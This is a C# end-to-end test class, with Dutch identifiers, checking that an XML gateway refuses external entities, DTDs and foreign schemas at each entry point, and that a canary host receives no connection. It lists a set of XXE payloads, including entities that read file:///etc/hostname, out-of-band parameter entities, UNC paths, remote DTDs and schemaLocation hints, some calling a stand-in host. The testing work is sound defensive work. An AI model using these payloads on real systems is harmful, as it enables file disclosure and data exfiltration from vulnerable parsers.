using System.Text;

namespace IB.Gateway.EndToEnd.Tests;

/// <summary>No DTD is read and nothing outside the document is fetched, at any door (X1, X4, X6).</summary>
[Collection(Doelwit.Naam)]
public sealed class ExterneEntiteiten(Doelwit doelwit)
{
    private static readonly Dictionary<string, Func<string, string, string>> Aanvallen = new()
    {
        ["X1 file"] = (xml, _) => xml.WithProlog("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>").WithValue("&e;"),
        ["X1 http"] = (xml, kanarie) => xml.WithProlog($"<!DOCTYPE x [<!ENTITY e SYSTEM \"http://{kanarie}/e\">]>").WithValue("&e;"),
        ["X1 name to look up"] = (xml, _) => xml.WithProlog("<!DOCTYPE x [<!ENTITY e SYSTEM \"http://zwartkijker.example/e\">]>").WithValue("&e;"),
        ["X1 unc"] = (xml, kanarie) => xml.WithProlog($"<!DOCTYPE x [<!ENTITY e SYSTEM \"\\\\{kanarie}\\e\">]>").WithValue("&e;"),
        ["X1 parameter entity"] = (xml, kanarie) => xml.WithProlog($"<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://{kanarie}/e\"> %e;]>"),
        ["X1 out of band"] = (xml, kanarie) => xml.WithProlog(
            $"<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % d SYSTEM \"http://{kanarie}/d\">%d;%f;]>"),
        ["X4 remote dtd"] = (xml, kanarie) => xml.WithProlog($"<!DOCTYPE x SYSTEM \"http://{kanarie}/x.dtd\">"),
        ["X4 public dtd"] = (xml, kanarie) => xml.WithProlog($"<!DOCTYPE x PUBLIC \"-//{Doelwit.Merkteken}//\" \"http://{kanarie}/x.dtd\">"),
        ["X4 empty internal subset"] = (xml, _) => xml.WithProlog("<!DOCTYPE x []>"),
        ["X4 bare doctype"] = (xml, _) => xml.WithProlog($"<!DOCTYPE {Doelwit.Merkteken}>"),
        ["X4 doctype after a comment"] = (xml, kanarie) => xml.WithProlog($"<!-- x --><!DOCTYPE x SYSTEM \"http://{kanarie}/x\">"),
        ["X4 doctype after an instruction"] = (xml, kanarie) => xml.WithProlog($"<?x y?><!DOCTYPE x SYSTEM \"http://{kanarie}/x\">"),
        ["X4 doctype after white space"] = (xml, kanarie) => xml.WithProlog($"\n\n  <!DOCTYPE x SYSTEM \"http://{kanarie}/x\">"),
        ["X4 doctype in the root"] = (xml, kanarie) => xml.WithFirst($"<!DOCTYPE x SYSTEM \"http://{kanarie}/x\">"),
        ["X1 undeclared entity"] = (xml, _) => xml.WithValue($"&{Doelwit.Merkteken};"),
        ["X6 schemaLocation in a wrong place"] = (xml, kanarie) => xml.WithAttributes(
            $"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:{Doelwit.Merkteken} http://{kanarie}/x.xsd\"")
                .WithFirst($"<{Doelwit.Merkteken}/>"),
        ["X6 type from elsewhere"] = (xml, kanarie) => xml.WithFirst(
            $"<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:u=\"urn:{Doelwit.Merkteken}\" xsi:type=\"u:t\" xsi:schemaLocation=\"urn:{Doelwit.Merkteken} http://{kanarie}/x.xsd\"/>"),
        ["X6 inline schema"] = (xml, kanarie) => xml.WithFirst(
            $"<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:import namespace=\"urn:x\" schemaLocation=\"http://{kanarie}/x.xsd\"/></xs:schema>"),
    };

    public static TheoryData<Deur, string> Gevallen(string nummer) => Deuren.Times(nummer, Aanvallen.Keys);

    [Theory]
    [Trait(Aanvalslijst.Kenmerk, "X1")]
    [MemberData(nameof(Gevallen), "X1")]
    public Task Entity_ThatPointsOutside_IsRefusedAndNothingIsFetched(Deur deur, string aanval) => RequireNothingFetchedAsync(deur, aanval);

    [Theory]
    [Trait(Aanvalslijst.Kenmerk, "X4")]
    [MemberData(nameof(Gevallen), "X4")]
    public Task Doctype_InAnyForm_IsRefusedAndNothingIsFetched(Deur deur, string aanval) => RequireNothingFetchedAsync(deur, aanval);

    [Theory]
    [Trait(Aanvalslijst.Kenmerk, "X6")]
    [MemberData(nameof(Gevallen), "X6")]
    public Task Schema_ThatTheDocumentBrings_IsRefusedAndNothingIsFetched(Deur deur, string aanval) => RequireNothingFetchedAsync(deur, aanval);

    [Theory]
    [Trait(Aanvalslijst.Kenmerk, "X6")]
    [InlineData("schemaLocation")]
    [InlineData("noNamespaceSchemaLocation")]
    public async Task SchemaHint_InAGoodMessage_IsNotFollowed(string naam)
    {
        using var kanarie = new Kanarie();
        var bericht = Proefbericht.Toewijzing();
        var hint = $"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:{naam}=\"{(naam[0] == 's' ? "urn:x " : "")}http://{kanarie.Adres}/x.xsd\"";
        bericht = bericht with { Inhoud = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(bericht.Inhoud).WithAttributes(hint)) };

        var bevestigd =
            await doelwit.WithstandAsync(bericht.Inhoud.Length, journaal: 1, async () => (await doelwit.Proefketen.Diemen.SendStufAsync(bericht)).Bevestigd);

        Assert.Equal(bericht.Referentie, bevestigd);
        Assert.Equal(bericht.Inhoud, await doelwit.Proefketen.ZorgThuis.ReceiveAsync(bericht.Referentie));
        Assert.False(kanarie.Zong, "The knooppunt made a connection.");
    }

    private async Task RequireNothingFetchedAsync(Deur deur, string aanval)
    {
        using var kanarie = new Kanarie();

        await doelwit.RequireRefusedAsync(deur, xml => Encoding.UTF8.GetBytes(Aanvallen[aanval](xml, kanarie.Adres)));

        Assert.False(kanarie.Zong, "The knooppunt made a connection.");
    }
}
